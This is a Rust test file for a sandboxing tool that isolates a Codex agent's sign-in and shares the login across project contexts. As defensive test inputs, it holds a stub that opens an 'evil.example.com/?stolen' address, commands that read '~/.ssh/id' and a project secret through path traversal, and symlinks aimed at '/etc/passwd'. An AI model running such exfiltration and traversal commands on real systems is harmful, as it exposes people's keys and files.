//! Signing in once: an agent's own sign-in in a fence of its own, the person's browser outside, and contexts that share
//! what came of it.

use std::os::unix::fs::PermissionsExt;

use bailiwick_testkit::{Bailiwick, codex, skip};

use crate::{kits, program};

/// An agent as they are: it opens an address, waits on its port for the browser's answer, and leaves the login, by
/// another file in place of the old. Its other words run a line, or renew the login in place.
const AGENT: &str = r#"#!/usr/bin/python3
import http.server, os, subprocess, sys
home = os.environ["CODEX_HOME"]
login = home + "/auth.json"
def write_new(text):
    os.makedirs(home, exist_ok=True)
    open(home + "/.new", "w").write(text)
    os.rename(home + "/.new", login)
if sys.argv[1:] == ["login"]:
    subprocess.run([os.environ["BROWSER"], "https://evil.example.com/?stolen"])
    subprocess.run(["xdg-open", "https://auth.openai.com/authorize?redirect_uri=http%3A%2F%2Flocalhost%3APORT%2Fcb"])
    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            write_new("TOKEN " + self.path + "\n")
            self.send_response(200)
            self.end_headers()
        def log_message(self, *a):
            pass
    http.server.HTTPServer(("127.0.0.1", PORT), Answer).handle_request()
elif sys.argv[1] == "renew-new":
    write_new(sys.argv[2] + "\n")
    import time
    time.sleep(float(sys.argv[3]))
elif sys.argv[1] == "renew-in-place":
    open(login, "w").write(sys.argv[2] + "\n")
else:
    sys.exit(subprocess.run(["sh", "-c", sys.argv[1]]).returncode)
"#;

/// A browser of the person's: notes what it is to open, and answers where the address says.
const BROWSER: &str = r#"#!/usr/bin/python3
import os, sys, time, urllib.parse, urllib.request
open(os.environ["HOME"] + "/opened", "a").write(sys.argv[1] + "\n")
asked = urllib.parse.parse_qs(urllib.parse.urlsplit(sys.argv[1]).query)["redirect_uri"][0]
for _ in range(100):
    try:
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(asked + "?code=1", timeout=5).read()
        break
    except OSError:
        time.sleep(0.1)
"#;

/// A kit with that agent, that waits at a port, and with that browser.
fn settle(kit: &mut Bailiwick, port: u16) {
    program(kit, ".local/bin/codex", &AGENT.replace("PORT", &port.to_string()));
    let browser = program(kit, "browser", BROWSER);
    kit.set("BROWSER", &browser);
    let path = std::env::var("PATH").unwrap();
    kit.set("PATH", &format!("{}/.local/bin:{path}", kit.home().display()));
}

fn inside(kit: &Bailiwick, project: &str, words: &[&str]) -> String {
    let folder = kit.outside().join(project);
    std::fs::create_dir_all(&folder).unwrap();
    kit.hand_over();
    let mut command = kit.command(&[&["run", "-q", "--", "codex"], words].concat());
    let output = command.current_dir(folder).output().unwrap();
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// A port that nobody has: one of another test, or of a program, may be taken.
fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn p9_an_agent_signs_in_once_and_its_contexts_share_the_login() {
    for mut kit in kits() {
        // A port of its own choice: it is shown outside when the address names it.
        settle(&mut kit, free_port());
        let look = "cat ~/.codex/auth.json";
        assert!(!inside(&kit, "one", &[look]).contains("TOKEN"));
        let hint = "no login of codex is here yet: `bailiwick login codex`";
        let summary = |kit: &Bailiwick| kit.run(&["run", "--", "codex", "true"]).ok().stderr;
        assert!(summary(&kit).contains(hint));
        let signed = kit.run(&["login", "codex"]).ok();
        assert!(!signed.stderr.contains("here yet"), "{signed:?}");
        assert!(signed.stdout.contains("signed in: codex"), "{signed:?}");
        assert!(
            signed
                .stderr
                .contains("not opened, it is no address of the sign-in: https://evil.example.com"),
            "{signed:?}"
        );
        assert!(
            signed.stderr.contains("opens https://auth.openai.com/authorize"),
            "{signed:?}"
        );
        let opened = std::fs::read_to_string(kit.home().join("opened")).unwrap();
        assert!(
            opened.lines().count() == 1 && opened.contains("auth.openai.com"),
            "{opened}"
        );
        assert_eq!(kit.run(&["login", "--list"]).ok().stdout, "codex\n");
        let kept = kit.home().join(".local/state/bailiwick/logins/codex/auth.json");
        let mode = std::fs::metadata(&kept).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "for its owner alone");
        assert!(!kit.home().join(".codex").exists(), "the person's own is untouched");

        // Every context has it, also one that was there before, and one that had a login of its own from before.
        for project in ["one", "two"] {
            assert_eq!(inside(&kit, project, &[look]), "TOKEN /cb?code=1\n", "{project}");
        }
        let told = summary(&kit);
        assert!(!told.contains(hint), "{told}");
        assert!(
            told.contains("use and renew the login of codex") && !told.contains("logins/codex"),
            "{told}"
        );
        // Renewed in either way it is renewed for all; also while the one that renewed it runs on.
        inside(&kit, "one", &["renew-in-place", "SECOND"]);
        assert_eq!(inside(&kit, "two", &[look]), "SECOND\n");
        inside(&kit, "two", &["renew-new", "THIRD", "0"]);
        assert_eq!(inside(&kit, "one", &[look]), "THIRD\n");
        assert_eq!(std::fs::read_to_string(&kept).unwrap(), "THIRD\n");
        let mut long = kit.command(&["run", "-q", "--", "codex", "renew-new", "FOURTH", "5"]);
        let mut long = long.spawn().unwrap();
        let until = std::time::Instant::now() + std::time::Duration::from_secs(4);
        while std::fs::read_to_string(&kept).unwrap() != "FOURTH\n" {
            assert!(
                std::time::Instant::now() < until,
                "a renewed login is shared while its task runs"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        assert_eq!(inside(&kit, "two", &[look]), "FOURTH\n");
        assert!(long.wait().unwrap().success());

        // Another agent, and one without a profile, have nothing of it.
        let other =
            kit.shell("cat ~/.codex/auth.json ~/.local/share/bailiwick/logins/codex/auth.json; ls -A ~/.local/share");
        assert!(
            !other.stdout.contains("FOURTH") && !other.stdout.contains("logins"),
            "{other:?}"
        );
        // A link in place of the login reaches nothing of the person's.
        kit.write_home("secret", "SECRET\n");
        inside(
            &kit,
            "one",
            &["ln -sf ~/secret ~/.codex/auth.json; ln -sf /etc/passwd ~/.local/share/bailiwick/logins/codex/x; true"],
        );
        assert_eq!(std::fs::read_to_string(&kept).unwrap(), "FOURTH\n");
        // Removed, it is gone for all, and a context can have one of its own again.
        kit.run(&["login", "--remove", "codex"]).ok();
        assert!(kit.run(&["login", "--list"]).ok().stdout.contains("no agent"));
        assert!(inside(&kit, "two", &[look]).contains("No such file"));
        inside(&kit, "two", &["renew-in-place", "OWN"]);
        assert_eq!(inside(&kit, "two", &[look]), "OWN\n");
        let log = kit.run(&["log", "show"]).ok().stdout;
        assert!(log.contains("allow keep ") && log.contains("logins/codex"), "{log}");
    }
}

#[test]
fn p2_who_signs_in_reaches_nothing_else() {
    let mut kit = Bailiwick::new();
    settle(&mut kit, free_port());
    kit.write("secret.txt", "SECRET\n");
    program(
        &kit,
        ".local/bin/codex",
        "#!/bin/sh\ncat ../../../../../project/secret.txt ~/.ssh/id\nls -A .\ncurl -s -m 5 http://registry.npmjs.org/ || echo no registry\n",
    );
    kit.write_home(".ssh/id", "KEY\n");
    let told = kit.run(&["login", "codex"]).status_is(1);
    assert!(told.stderr.contains("has not signed in"), "{told:?}");
    assert!(
        !told.stdout.contains("SECRET") && !told.stdout.contains("KEY"),
        "{told:?}"
    );
    assert!(
        told.stderr.contains("auth.openai.com") && !told.stderr.contains("npmjs"),
        "{told:?}"
    );
    // A lock that a program leaves behind is no login, and one from before stays when signing in anew fails.
    program(
        &kit,
        ".local/bin/codex",
        "#!/bin/sh\n: > ~/.local/share/bailiwick/logins/codex/auth.json.lock\nexit 1\n",
    );
    let told = kit.run(&["login", "codex"]).status_is(1);
    assert!(told.stderr.contains("left no login"), "{told:?}");
    let kept = kit.home().join(".local/state/bailiwick/logins/codex");
    assert!(!kept.exists());
    std::fs::create_dir_all(&kept).unwrap();
    std::fs::write(kept.join("auth.json"), "OLD").unwrap();
    let told = kit.run(&["login", "codex"]).status_is(1);
    assert!(told.stderr.contains("the login from before stays"), "{told:?}");
    assert_eq!(std::fs::read_to_string(kept.join("auth.json")).unwrap(), "OLD");
    kit.run(&["login", "--remove", "codex"]).ok();
    for words in [&["login", "bash"][..], &["login"], &["login", "--remove", "codex"]] {
        assert_eq!(kit.run(words).status, 2, "{words:?}");
    }
}

#[test]
fn p9_the_real_codex_shares_a_login_by_key() {
    let mut kit = Bailiwick::new();
    let agent = codex(1);
    let natives = glob_native(&agent.folder);
    let Some(native) = natives else {
        skip("codex has no program of its own for this machine");
        return;
    };
    let place = kit.home().join(".local/bin");
    std::fs::create_dir_all(&place).unwrap();
    std::fs::copy(native, place.join("codex")).unwrap();
    kit.hand_over();
    let path = std::env::var("PATH").unwrap();
    kit.set("PATH", &format!("{}:{path}", place.display()));
    let mut command = kit.command(&["login", "codex", "--", "--with-api-key"]);
    let mut child = command
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"sk-test-of-dana\n").unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let kept = kit.home().join(".local/state/bailiwick/logins/codex/auth.json");
    assert!(std::fs::read_to_string(kept).unwrap().contains("sk-test-of-dana"));
    let status = kit.run(&["run", "-q", "--", "codex", "login", "status"]).ok();
    assert!(
        format!("{}{}", status.stdout, status.stderr).contains("API key"),
        "{status:?}"
    );
    assert!(!kit.home().join(".codex").exists());
}

/// The program that codex's package brings for this machine.
fn glob_native(folder: &std::path::Path) -> Option<std::path::PathBuf> {
    let parts = std::fs::read_dir(folder.join("@openai")).ok()?.flatten();
    let vendors = parts.filter_map(|part| std::fs::read_dir(part.path().join("vendor")).ok());
    let programs = vendors
        .flatten()
        .flatten()
        .map(|target| target.path().join("bin/codex"));
    programs.into_iter().find(|program| program.is_file())
}
